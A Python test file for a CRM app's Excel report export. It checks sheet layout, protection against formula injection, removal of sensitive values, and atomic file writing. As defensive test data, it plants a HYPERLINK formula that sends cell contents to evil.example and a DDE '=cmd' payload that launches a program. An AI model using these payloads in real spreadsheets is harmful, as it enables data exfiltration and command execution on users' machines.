"""The Excel report: its sheets and figures, cells that can never become formulas, no sensitive
value anywhere in the file, and a file that is whole or absent."""

from __future__ import annotations

import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from kamdesk.domain.errors import ValidationError
from kamdesk.interchange import excel
from kamdesk.interchange.excel import looks_like_formula, write_report
from kamdesk.interchange.files import ExportError
from kamdesk.services.plans import DONE, MISSED, VISIT
from kamdesk.services.workbench import Workbench
from kamdesk.storage.models import SYNCED_MODELS, is_sensitive
from tests.conftest import Customer

TODAY = date(2026, 11, 23)
MARKER = "机密标记Z9"
"""Planted in every sensitive column: it must not be anywhere in the workbook."""
TRAPS = ('=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1)")


@pytest.fixture
def archive(wb: Workbench, rich_customer: Customer) -> Customer:
    """The rich customer, a second account whose people and texts look like formulas, a visit
    and an issue in 2026, and the marker in every sensitive column of every table."""
    c = rich_customer
    wb.years.create(account_id=c.account.id, year=2025, revenue=0, gross_profit=0)
    other = wb.accounts.create(name="+86 广州南方食品", city="-广州", owner="@王建国")
    wb.years.create(account_id=other.id, year=2025, revenue=500_000, gross_profit=100_000)
    trap = wb.contacts.create(account_id=other.id, name=TRAPS[0], title="\t=1+1")
    summer = wb.contacts.create(account_id=other.id, name=TRAPS[1])
    wb.visits.log(
        other.id,
        [trap.id],
        occurred_at="2026-03-05 14:30",
        purpose=" =cmd|' /C calc'!A0",
        outcome="-2+3",
        next_steps="\r=1",
        follow_up_on="2026-03-20",
    )
    wb.issues.create(
        account_id=other.id,
        contact_id=summer.id,
        description="-1 台设备停机",
        raised_on="2026-11-01",
        responsible="=A1",
        severity="critical",
    )
    wb.anniversaries.create(
        account_id=c.account.id,
        contact_id=c.vp.id,
        kind="birthday",
        month=6,
        day=1,
        note=MARKER,
        sensitivity="sensitive",
    )
    wb.preferences.create(
        account_id=c.account.id,
        contact_id=c.vp.id,
        category="gift",
        value=MARKER,
        sensitivity="sensitive",
    )
    with wb.archive.writing() as session:
        for model in SYNCED_MODELS:
            for column in model.__table__.columns:
                if is_sensitive(model, column.name):
                    session.execute(update(model).values({column.name: MARKER}))
    return c


def written(wb: Workbench, tmp_path: Path, **kwargs: object) -> Path:
    path = tmp_path / "报告.xlsx"
    write_report(wb, path, today=TODAY, **kwargs)  # type: ignore[arg-type]
    return path


def test_the_workbook_has_the_five_sheets_with_bold_frozen_headers(
    wb: Workbench, archive: Customer, tmp_path: Path
) -> None:
    book = load_workbook(written(wb, tmp_path, year=2026))
    assert book.sheetnames == [
        "Accounts",
        "Tiers",
        "Visits 2026",
        "Open issues",
        "Plan fulfilment 2026",
    ]
    for ws in book.worksheets:
        assert ws.freeze_panes == "A2"
        assert all(cell.font.b for cell in ws[1] if cell.value is not None)
        assert ws.column_dimensions["A"].width >= 6
        for row in ws.iter_rows(min_row=2, max_row=3):
            for cell in row:
                if cell.value is not None:
                    assert cell.font.name == "Microsoft YaHei"
    accounts = book["Accounts"]
    assert [c.value for c in accounts[1]] == [
        "Rank",
        "Account",
        "Tier",
        "Key account",
        "Owner",
        "City",
        "Gross profit 2025",
        "Last visit",
        "Next visit due",
        "Days overdue",
        "Open issues",
    ]
    rows = {r[1]: r for r in accounts.iter_rows(min_row=2, values_only=True)}
    hengrui = rows["苏州恒瑞精密机械有限公司"]
    assert hengrui[2] in ("A", "B", "C") and hengrui[5] == "苏州" and hengrui[10] == 1
    assert hengrui[7] == datetime(2026, 10, 20)  # a real date, not text
    assert accounts["H2"].is_date and accounts["H2"].number_format == "yyyy-mm-dd"


def test_visits_issues_and_plans_come_from_the_archive_and_its_rules(
    wb: Workbench, archive: Customer, tmp_path: Path
) -> None:
    book = load_workbook(written(wb, tmp_path, year=2026))
    visits = list(book["Visits 2026"].iter_rows(min_row=2, values_only=True))
    assert [(v[0], v[1], v[3]) for v in visits] == [
        (datetime(2026, 3, 5, 14, 30), "+86 广州南方食品", TRAPS[0]),
        (datetime(2026, 10, 20, 10, 0), "苏州恒瑞精密机械有限公司", "曾国华、欧阳娜娜"),
    ]
    assert visits[1][4] == "季度业务回顾" and visits[1][7] == datetime(2026, 11, 27)
    issues = list(book["Open issues"].iter_rows(min_row=2, values_only=True))
    assert [(i[0], i[2], i[3], i[7], i[8]) for i in issues] == [
        ("+86 广州南方食品", 22, "critical", TRAPS[1], "=A1"),
        ("苏州恒瑞精密机械有限公司", 22, "high", None, "刘工"),
    ]
    plans = book["Plan fulfilment 2026"]
    lines = {(r[0], r[3]): r for r in plans.iter_rows(min_row=2, values_only=True)}
    tier = next(s.tier for s in wb.engine.standings(TODAY) if s.account_id == archive.account.id)
    plan = wb.plans.plan(archive.account.id, 2026, today=TODAY, tier=tier)
    mine = [i for i in plan.items if i.kind == VISIT]
    line = lines[("苏州恒瑞精密机械有限公司", "visit")]
    assert line[4:7] == (
        len(mine),
        sum(i.status == DONE for i in mine),
        sum(i.status == MISSED for i in mine),
    )


def test_a_quarter_holds_only_its_visits(wb: Workbench, archive: Customer, tmp_path: Path) -> None:
    book = load_workbook(written(wb, tmp_path, year=2026, quarter=1))
    assert book.sheetnames[2] == "Visits 2026 Q1"
    assert book["Visits 2026 Q1"].max_row == 2


def test_the_period_is_this_year_unless_asked_and_must_exist(
    wb: Workbench, archive: Customer, tmp_path: Path
) -> None:
    assert load_workbook(written(wb, tmp_path)).sheetnames[2] == "Visits 2026"
    with pytest.raises(ValidationError, match="quarter must be 1 to 4"):
        write_report(wb, tmp_path / "x.xlsx", 2026, 5, today=TODAY)


def test_no_cell_can_become_a_formula(wb: Workbench, archive: Customer, tmp_path: Path) -> None:
    path = written(wb, tmp_path, year=2026)
    with zipfile.ZipFile(path) as package:
        sheets = [package.read(n).decode() for n in package.namelist() if "worksheets/" in n]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
    book = load_workbook(path)
    seen = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    seen[cell.value] = cell
    for text in (
        *TRAPS,
        "+86 广州南方食品",
        "-广州",
        "@王建国",
        "=cmd|' /C calc'!A0",
        "-2+3",
        "=1",
        "=A1",
        "-1 台设备停机",
    ):
        assert text in seen, text  # the text as typed, nothing added
        assert seen[text].quotePrefix, text  # and Excel keeps it text even when edited
    assert not seen["苏州恒瑞精密机械有限公司"].quotePrefix


def test_text_after_spaces_tabs_or_line_breaks_and_error_lookalikes_stay_text(
    tmp_path: Path,
) -> None:
    texts = [" =1+1", "\t=1+1", "\r=1", "\n@A1", "#N/A", "#DIV/0!", "平常的字"]
    sheet = excel.Sheet("测试", [excel.Block((excel.Column("文本"),), [(t,) for t in texts])])
    path = tmp_path / "t.xlsx"
    excel.write_workbook([sheet], path)
    ws = load_workbook(path)["测试"]
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells] == texts
    assert [c.data_type for c in cells] == ["s"] * len(texts)
    assert [bool(c.quotePrefix) for c in cells] == [True, True, True, True, False, False, False]


@pytest.mark.parametrize(
    ("text", "formula"),
    [
        ("=1+1", True),
        ("+1", True),
        ("-1", True),
        ("@SUM(1)", True),
        ("  =1", True),
        ("\t1", True),
        ("\r1", True),
        ("张三", False),
        ("a=1", False),
        ("", False),
    ],
)
def test_what_counts_as_a_formula(text: str, formula: bool) -> None:
    assert looks_like_formula(text) is formula


def test_no_sensitive_value_is_anywhere_in_the_file(
    wb: Workbench, archive: Customer, tmp_path: Path
) -> None:
    with zipfile.ZipFile(written(wb, tmp_path, year=2026)) as package:
        everything = "".join(package.read(n).decode("utf-8") for n in package.namelist())
    assert MARKER not in everything
    assert "高血压" not in everything and "母亲王秀英" not in everything


def test_a_failure_leaves_no_file_under_the_final_name(
    wb: Workbench, archive: Customer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from openpyxl.workbook.workbook import Workbook

    def half_written(self: Workbook, out: Any) -> None:
        out.write(b"PK\x03\x04 half a workbook")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Workbook, "save", half_written)
    path = tmp_path / "报告.xlsx"
    with pytest.raises(ExportError, match=r"cannot write .*No space left on device"):
        write_report(wb, path, today=TODAY)
    assert not path.exists()
    path.write_bytes(b"last week's report")
    with pytest.raises(ExportError):
        write_report(wb, path, today=TODAY)
    assert path.read_bytes() == b"last week's report"
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_stopping_through_progress_writes_nothing(
    wb: Workbench, archive: Customer, tmp_path: Path
) -> None:
    calls: list[tuple[int, int]] = []

    def stop(done: int, total: int) -> None:
        calls.append((done, total))
        if done == 3:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_report(wb, tmp_path / "报告.xlsx", today=TODAY, progress=stop)
    assert not (tmp_path / "报告.xlsx").exists() and calls[-1][0] == 3
